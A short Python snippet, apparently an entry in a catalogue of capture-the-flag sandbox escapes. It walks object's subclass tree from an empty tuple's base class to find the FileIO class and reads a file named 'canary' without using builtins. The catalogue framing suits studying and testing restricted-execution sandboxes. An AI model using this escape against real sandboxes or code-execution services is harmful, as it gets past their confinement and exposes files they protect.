"""The class FileIO, found below object by its bases, opens a file.

Known from: CTF jails of Python 3, where "file" is gone from object's subclasses
Effect: read
Jail: no builtins
"""
def below(cls):
    for sub in cls.__subclasses__():
        if sub.__name__ == "FileIO":
            return sub
        if sub.__name__ in ("_IOBase", "_RawIOBase"):
            return below(sub)


answer = below(().__class__.__base__)("canary").read()
